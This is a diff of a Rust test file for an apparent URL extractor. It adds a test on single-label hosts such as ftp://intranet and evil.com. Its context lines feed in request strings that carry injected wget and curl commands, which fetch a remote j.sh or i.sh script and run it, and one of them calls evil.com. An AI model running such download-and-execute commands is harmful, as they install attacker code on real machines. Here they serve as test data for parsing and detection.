@@ -93,6 +93,12 @@ fn what_is_written_before_a_name_is_no_part_of_it() {
 }
 
 #[test]
+fn the_host_of_another_scheme_that_is_one_label_stays_a_url() {
+    holds("at ftp://intranet now", &["ftp://intranet|other scheme"]);
+    holds("at ftp://evil.com now", &["evil.com"]);
+}
+
+#[test]
 fn a_command_in_another_request_ends_a_url() {
     holds("GET /x?cd+/tmp;wget+http://8.8.4.4/j.sh;sh+j HTTP/1.1", &["http://8.8.4.4/j.sh"]);
     holds("GET /x?a=;curl+http://evil.com/i.sh+-o+i HTTP/1.1", &["http://evil.com/i.sh"]);
